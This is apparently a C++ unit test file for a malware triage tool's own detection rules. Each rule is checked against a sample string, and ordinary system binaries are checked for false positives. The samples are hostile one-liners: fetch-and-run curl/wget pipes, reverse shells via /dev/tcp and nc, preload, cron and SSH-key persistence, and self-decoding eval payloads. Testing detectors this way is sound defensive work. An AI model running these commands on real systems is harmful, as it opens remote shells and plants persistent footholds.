// Our own rules: what each must find, and programs of the system in which none finds more than it says.
#include "triage/rules.h"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <set>

#include "triage/own_rules.h"
#include "triage/testing.h"

namespace shikake::triage {
namespace {

using testing::Contains;

const std::string elf =
    "\x7f"
    "ELF\x02\x01\x01";

struct Row {
  const char* rule;
  std::string text;
};

const Row rows[] = {
    {"upx_packed", elf + " UPX! x UPX!"},
    {"script_decodes_itself", "echo ZWNobwo= | base64 -d | sh"},
    {"script_decodes_itself", "exec(zlib.decompress(base64.b64decode('eJw')))"},
    {"script_decodes_itself", "<?php eval(gzinflate(base64_decode('x')));"},
    {"names_preload_file", "echo /tmp/x.so >> /etc/ld.so.preload"},
    {"names_cron", "echo '* * * * * x' | crontab -"},
    {"names_cron", "/etc/cron.d/x"},
    {"names_service_unit", "/etc/systemd/system/x.service"},
    {"names_service_unit", "ExecStart=/tmp/x\nWantedBy=multi-user.target"},
    {"names_authorized_keys", "$HOME/.ssh/authorized_keys"},
    {"fetches_and_runs", "curl -s http://a.example/x.sh | bash"},
    {"fetches_and_runs", "wget http://a.example/x -O /tmp/x; chmod +x /tmp/x; /tmp/x"},
    {"shell_over_network", "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"},
    {"shell_over_network", "nc 192.0.2.1 4444 -e /bin/sh"},
    {"runs_from_memory", elf + " memfd_create fexecve "},
    {"looks_for_tracer", "/proc/self/status TracerPid"},
    {"looks_for_virtual_machine", "/sys/class/dmi/id/product_name"},
    {"looks_for_virtual_machine", "is it VMware or VirtualBox"},
    {"speaks_irc", "NICK %s\r\nUSER %s 0 * :x\r\nJOIN #c\r\nPONG :%s"},
    {"speaks_mining_pool", "stratum+tcp://pool.example:3333"},
    {"names_hidden_service", "http://" + std::string(56, 'a') + ".onion/"},
};

std::set<std::string> found_in(const Rules& rules, const std::string& bytes) {
  std::set<std::string> out;
  for (const RuleMatch& match : rules.match(base::as_bytes(bytes)).found) {
    out.insert(match.rule);
    EXPECT_FALSE(match.description.empty()) << match.rule;
    EXPECT_TRUE(match.technique.starts_with("T1")) << match.rule;
    EXPECT_FALSE(match.strings.empty()) << match.rule;
    EXPECT_TRUE(match.source.starts_with("built-in/")) << match.source;
  }
  return out;
}

TEST(OwnRules, FindWhatTheyAreFor) {
  auto rules = Rules::compile({}, true);
  ASSERT_TRUE(rules) << rules.error().message();
  std::set<std::string> tried;
  for (const Row& row : rows) {
    EXPECT_THAT(found_in(*rules, row.text), Contains(row.rule)) << row.text;
    tried.insert(row.rule);
  }
  // Every rule has a row.
  for (const OwnRules& file : own_rules()) {
    const std::string text = file.text;
    for (size_t at = text.find("\nrule "); at != text.npos; at = text.find("\nrule ", at + 1)) {
      const size_t begin = at + 6;
      EXPECT_THAT(tried, Contains(text.substr(begin, text.find(' ', begin) - begin)));
    }
  }
}

TEST(OwnRules, FindNothingInOrdinaryProgramsAndText) {
  auto rules = Rules::compile({}, true);
  ASSERT_TRUE(rules);
  for (const char* path : {"/bin/ls", "/bin/cat", "/bin/tar", "/bin/gzip", "/bin/sed", "/usr/bin/sort",
                           "/usr/bin/find", "/etc/passwd", "/etc/profile"}) {
    EXPECT_TRUE(found_in(*rules, read_all(path)).empty()) << path;  // nothing is in a file that is not there
  }
}

}  // namespace
}  // namespace shikake::triage
